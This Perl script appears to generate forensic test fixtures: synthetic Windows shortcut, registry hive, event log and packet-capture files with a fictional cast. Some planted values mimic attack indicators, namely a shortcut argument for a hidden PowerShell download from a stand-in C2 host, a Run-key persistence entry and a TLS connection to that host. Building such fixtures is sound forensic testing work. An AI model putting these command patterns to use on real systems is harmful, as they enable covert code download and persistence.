#!/usr/bin/perl
# make_windows.pl lnk|hive|evtx|pcap|pcapng OUT: small files as Windows and capture programs write them, with the sample's cast.
use strict; use warnings; use Encode;
my ($what, $out) = @ARGV;
sub wide { encode('UTF-16LE', decode('UTF-8', $_[0])) }
my $time = sub { pack 'Q<', ($_[0] + 11644473600) * 10000000 };
my $file;
if ($what eq 'lnk') {
	my $item = sub { my ($short, $long) = @_; my $ext = pack('v v V V V v', 0, 9, 0xBEEF0004, 0, 0, 46) . "\0" x 18 . "\0\0" . "\0" x 8 . wide($long) . "\0\0" . pack 'v', 20; substr($ext, 0, 2) = pack 'v', length $ext; my $i = "\x32\0\0\0\0\0\0\0\0\0\0\0$short\0" . $ext; return pack('v', 2 + length $i) . $i };
	my $list = pack('v', 25) . "\x2FC:\\" . "\0" x 19 . $item->('PLAN~1.DOC', '虚衡计划.docx') . "\0\0";
	my $volume = pack('V V V V', 21, 3, 0x1A2B3C4D, 16) . "DATA\0"; my $path = "C:\\old\\plan.docx\0"; my $share = pack('V V V V V', 20, 2, 20, 0, 0) . "\\\\linyuan\\share\0";
	my $wide = wide("C:\\合同\\虚衡计划.docx") . "\0\0";
	my $info = pack('V' x 9, 0, 0x24, 3, 0x24, 0x24 + length $volume, 0, 0, 0, 0) . $volume . $path; my $at = length $info; $info .= $share; my $suffix = length $info; $info .= "\0"; my $u = length $info; $info .= $wide; my $us = length $info; $info .= "\0\0";
	substr($info, 0, 36) = pack 'V' x 9, length $info, 0x24, 3, 0x24, 0x24 + length $volume, $at, $suffix, $u, $us;
	my $string = sub { pack('v', length(wide($_[0])) / 2) . wide($_[0]) };
	my $tracker = pack('V V V V', 96, 0xA0000003, 88, 0) . pack('a16', 'dongyou-pc7') . "\0" x 16 . ("\1" x 6 . "\0\x11" . "\2\2" . "\x00\x50\x56\xab\xcd\xef") . "\0" x 32;
	$file = pack('V', 76) . pack('H*', '0114020000000000c000000000000046') . pack('V V', 0x1 | 0x2 | 0x4 | 0x20 | 0x80, 32) . $time->(1614852000) . $time->(1614852000) . $time->(1614938400) . pack('V V V v v V V', 1234, 0, 1, 0, 0, 0, 0) . pack('v', length $list) . $list . $info . $string->('project of the harbour') . $string->('-w hidden http://c2.elbonia.example/a.ps1') . $tracker . "\0" x 4;
} elsif ($what eq 'hive') {
	my $bin = 'hbin' . pack('V V', 0, 4096) . "\0" x 20;
	my $cell = sub { my $b = shift; $b .= "\0" x (-(length($b) + 4) % 8); my $at = length $bin; $bin .= pack('l<', -(4 + length $b)) . $b; return $at };
	my $value = sub { my ($name, $type, $data) = @_; my $at = length $data > 4 ? $cell->($data) : unpack 'V', $data . "\0" x 4; return $cell->('vk' . pack('v V V V v v', length $name, length $data > 4 ? length $data : length($data) | 1 << 31, $at, $type, 1, 0) . $name) };
	my $key = sub { my ($name, $values, @subs) = @_; my $latin = $name !~ /[^ -~]/; my $v = @$values ? $cell->(pack 'V*', @$values) : 0xFFFFFFFF; my $s = @subs ? $cell->('lf' . pack('v', scalar @subs) . join '', map { pack('V', $_) . 'hash' } @subs) : 0xFFFFFFFF; my $n = $latin ? $name : wide($name);
		return $cell->('nk' . pack('v', $latin ? 0x20 : 0) . $time->(1614852000) . pack('V V V V V V V V V V', 0, 0, scalar @subs, 0, $s, 0xFFFFFFFF, scalar @$values, $v, 0xFFFFFFFF, 0xFFFFFFFF) . "\0" x 20 . pack('v v', length $n, 0) . $n) };
	my $run = $key->('Run', [$value->('Updater', 1, wide("C:\\a.exe -c c2.elbonia.example\0")), $value->('', 4, pack 'V', 77), $value->('Both', 7, wide("one\0two\0\0"))]);
	my $assist = $key->('UserAssist', [], $key->('Count', [$value->('P:\\Grzc\\ahyy.rkr', 3, "\1\2\3")]));
	my $docs = $key->('最近文档', [$value->('0', 3, wide("虚衡计划.docx\0") . "\x14\0\x1f\x50\xe0\x4f")]);
	my $root = $key->('ROOT', [], $key->('Software', [], $run, $assist, $docs, $key->('Empty', [])));
	$bin .= "\0" x (-length($bin) % 4096); substr($bin, 8, 4) = pack 'V', length $bin;
	$file = 'regf' . pack('V V', 1, 1) . $time->(1614852000) . pack('V V V V V V V', 1, 5, 0, 1, $root, length $bin, 1) . pack('a64', wide('NTUSER.DAT')); $file .= "\0" x (4096 - length $file) . $bin;
} elsif ($what eq 'evtx') {
	my $chunk = "\0" x 512; my %names;
	my $record = sub {
		my ($number, $body) = @_; my $at = length $chunk; my $r = pack('V V Q<', 0x2A2A, 0, $number) . $time->(1614852000 + $number); $chunk .= $r; $body->(); $chunk .= pack 'V', 0; my $n = length($chunk) - $at; substr($chunk, $at + 4, 4) = pack 'V', $n; substr($chunk, -4) = pack 'V', $n };
	my $name = sub { my $n = shift; if ($names{$n}) { $chunk .= pack 'V', $names{$n}; return } $names{$n} = 4 + length $chunk; $chunk .= pack('V', $names{$n}) . pack('V v v', 0, 0, length $n) . wide($n) . "\0\0" };
	my $open = sub { my ($n, $attributes) = @_; $chunk .= chr(1 | ($attributes ? 0x40 : 0)) . pack 'v V', 0xFFFF, 0; $name->($n); $chunk .= pack 'V', 0 if $attributes };
	my $attribute = sub { my ($n, $value) = @_; $chunk .= "\x06"; $name->($n); $chunk .= defined $value ? "\x05\x01" . pack('v', length $value) . wide($value) : '' };
	my $hole = sub { $chunk .= "\x0D" . pack 'v C', @_ };
	my $template = 0;
	my $event = sub {
		my ($user, $address) = @_; my @values = ([1, wide($user)], [1, wide($address)], [8, pack 'V', 4624], [19, "\1\2\0\0\0\0\0\5" . pack 'V V', 32, 544]);
		$chunk .= "\x0F\1\1\0\x0C\1" . pack('V', 7); if ($template) { $chunk .= pack 'V', $template } else {
			$template = 4 + length $chunk; $chunk .= pack('V', $template) . pack('V', 0) . 'G' x 16 . pack 'V', 0; my $from = length $chunk;
			$chunk .= "\x0F\1\1\0"; $open->('Event'); $chunk .= "\x02"; $open->('System'); $chunk .= "\x02"; $open->('Provider', 1); $attribute->('Name', 'Security'); $chunk .= "\x03"; $open->('EventID'); $chunk .= "\x02"; $hole->(2, 8); $chunk .= "\x04\x04";
			$open->('EventData'); $chunk .= "\x02"; for (['TargetUserName', 0, 1], ['IpAddress', 1, 1], ['Sid', 3, 19]) { $open->('Data', 1); $attribute->('Name', $_->[0]); $chunk .= "\x02"; $hole->($_->[1], $_->[2]); $chunk .= "\x04" }
			$chunk .= "\x04\x04\0"; substr($chunk, $from - 4, 4) = pack 'V', length($chunk) - $from }
		$chunk .= pack('V', scalar @values) . join('', map { pack 'v C C', length $_->[1], $_->[0], 0 } @values) . join('', map { $_->[1] } @values) . "\0" };
	$record->(1, sub { $event->('lilei', '203.0.113.7') }); $record->(2, sub { $event->('han.meimei', '198.51.100.9') });
	substr($chunk, 0, 52) = "ElfChnk\0" . pack('Q<4 V V V', 1, 2, 1, 2, 128, 0, 0); substr($chunk, 48, 4) = pack 'V', length $chunk; $chunk .= "\0" x (65536 - length $chunk);
	$file = "ElfFile\0" . "\0" x 4088 . $chunk;
} else {
	my $ip = sub { my ($kind, $a, $b, $body) = @_; return pack('C C n n n C C n', 0x45, 0, 20 + length $body, 1, 0, 64, $kind, 0) . pack('C4 C4', split(/\./, $a), split /\./, $b) . $body };
	my $tcp = sub { my ($p, $q, $body) = @_; return pack('n n N N C C n n n', $p, $q, 1, 1, 0x50, 0x18, 100, 0, 0) . $body }; my $udp = sub { my ($p, $q, $body) = @_; return pack('n n n n', $p, $q, 8 + length $body, 0) . $body };
	my $name = sub { join('', map { chr(length) . $_ } split /\./, $_[0]) . "\0" };
	my $hello = do { my $h = 'c2.elbonia.example'; my $ext = pack('n n n C n', 0, 5 + length $h, 3 + length $h, 0, length $h) . $h; my $body = "\3\3" . 'r' x 32 . "\0" . pack('n n', 2, 0x1301) . "\1\0" . pack('n', length $ext) . $ext; "\x16\3\1" . pack('n', 4 + length $body) . "\1\0" . pack('n', length $body) . $body };
	my @packets = ($ip->(17, '192.0.2.7', '192.0.2.1', $udp->(40000, 53, pack('n6', 7, 0x100, 1, 0, 0, 0) . $name->('mail.elbonia.example') . pack 'n n', 1, 1)),
		$ip->(17, '192.0.2.1', '192.0.2.7', $udp->(53, 40000, pack('n6', 7, 0x8180, 1, 1, 0, 0) . $name->('mail.elbonia.example') . pack('n n', 1, 1) . pack('n n n N n', 0xC00C, 1, 1, 60, 4) . pack 'C4', 203, 0, 113, 7)),
		$ip->(6, '192.0.2.7', '203.0.113.7', $tcp->(40001, 80, "POST /login HTTP/1.1\r\nHost: mail.elbonia.example\r\n\r\nuser=lilei&city=虚衡")), $ip->(6, '203.0.113.7', '192.0.2.7', $tcp->(80, 40001, "HTTP/1.1 200 OK\r\nServer: x\r\n\r\n\x1f\x8b\0\0\1")),
		$ip->(6, '192.0.2.7', '203.0.113.8', $tcp->(40002, 443, $hello)), $ip->(6, '203.0.113.8', '192.0.2.7', $tcp->(443, 40002, "\x17\3\3\0\5abcd\0")));
	$_ = 'm' x 12 . "\x08\0" . $_ for @packets;
	if ($what eq 'pcap') { $file = pack('N n n N N N N', 0xA1B2C3D4, 2, 4, 0, 0, 65535, 1) . join '', map { pack('N N N N', 1614852000, 0, length, length) . $_ } @packets }
	else { my $block = sub { my ($type, $b) = @_; $b .= "\0" x (-length($b) % 4); return pack('V V', $type, 12 + length $b) . $b . pack 'V', 12 + length $b };
		$file = $block->(0x0A0D0D0A, pack('V v v q<', 0x1A2B3C4D, 1, 0, -1)) . $block->(1, pack('v v V', 1, 0, 0) . pack('v v C x3 v v', 9, 1, 9, 0, 0)) . join '', map { my $t = 1614852000 * 1000000000; $block->(6, pack('V V V V V', 0, $t >> 32, $t & 0xFFFFFFFF, length, length) . $_) } @packets }
}
open my $fh, '>:raw', $out or die "$out: $!\n"; print $fh $file; close $fh;
